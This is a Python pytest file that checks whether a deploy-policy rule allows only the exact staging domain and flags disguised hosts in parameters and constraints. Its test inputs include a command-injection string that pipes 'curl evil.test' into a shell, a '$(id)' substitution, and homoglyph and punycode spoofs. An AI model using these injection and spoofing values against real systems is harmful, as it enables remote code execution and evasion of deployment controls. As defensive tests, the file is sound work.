"""Cases D04 to D07, D09 and F07: a target is compared whole, never by how it begins."""

from __future__ import annotations

from typing import Any

import pytest

from tests.builders import NOW_MS, PROD, a_document
from tests.checking import found, sentinel_with


def staging(domain: str, **parameters: Any) -> dict[str, Any]:
    target = PROD["target"] | {"domain": domain}
    return a_document(PROD, tool="staging-deploy", target=target, parameters=parameters)


@pytest.mark.parametrize(
    "target",
    [
        "https://staging.shop.example@evil.test/",
        "https://staging.shop.example.evil.test/",
        "https://staging.shop.example:8443/",
        "http://staging.shop.example/",
        "//staging.shop.example",
        "staging.shop.example:443",
        "staging.shop.example/",
        "www.shop.example",
        "STAGING.shop.example",
        "staging.shop.example.",
        " staging.shop.example",
        "stаging.shop.example",
        "xn--stging-4nf.shop.example",
        "staging.shop.example\n",
        "staging.shop.example; curl evil.test|sh",
        "--force",
        "$(id)",
        "",
    ],
)
def test_D04_D05_D06_D07_D09_only_the_exact_target_passes(target: str) -> None:
    assert found(staging(target)) == {
        ("deploy_target_allowed", "target_not_allowed", "target.domain")
    }


@pytest.mark.parametrize(
    ("parameters", "path"),
    [
        ({"host": "evil.test"}, "parameters.host"),
        ({"url": "https://staging.shop.example/"}, "parameters.url"),
        ({"options": [{"domain": "evil.test"}]}, "parameters.options[0].domain"),
        ({"TARGET": ["staging.shop.example"]}, "parameters.TARGET"),
        ({"hоst": "evil.test"}, 'parameters["h\\u043est"]'),
        ({"hOST": "evil.test"}, "parameters.hOST"),
        ({"URІ": "evil.test"}, 'parameters["UR\\u0406"]'),
        ({"urӏ": "evil.test"}, 'parameters["ur\\u04cf"]'),
    ],
)
def test_D04_the_parameters_name_the_same_place(parameters: dict[str, Any], path: str) -> None:
    document = staging("staging.shop.example", **parameters)

    assert found(document) == {("deploy_target_allowed", "target_not_allowed", path)}


@pytest.mark.parametrize("constraints", [{"host": "evil.test"}, {"a": [{"URL": "//evil.test"}]}])
def test_D04_the_constraints_name_the_same_place(constraints: dict[str, Any]) -> None:
    document = staging("staging.shop.example")
    document["target"]["constraints"] = constraints
    path = "host" if "host" in constraints else "a[0].URL"

    assert found(document) == {
        ("deploy_target_allowed", "target_not_allowed", f"target.constraints.{path}")
    }


def test_D04_the_exact_target_passes() -> None:
    assert found(staging("staging.shop.example", host="staging.shop.example", url=None)) == set()


@pytest.mark.parametrize("targets", [{}, {"production-deploy": []}])
def test_F07_a_deploy_tool_without_targets_deploys_nowhere(targets: dict[str, Any]) -> None:
    rule = sentinel_with("deploy_target_allowed", targets=targets)

    assert ("deploy_target_allowed", "target_not_allowed", "target.domain") in found(PROD, rule)


def test_production_hours_are_read_in_their_own_zone() -> None:
    saturday_ms = NOW_MS + 5 * 86_400_000

    assert found(PROD) == set()
    assert found(PROD, now_ms=saturday_ms) == {("change_window_open", "outside_hours", "tool")}
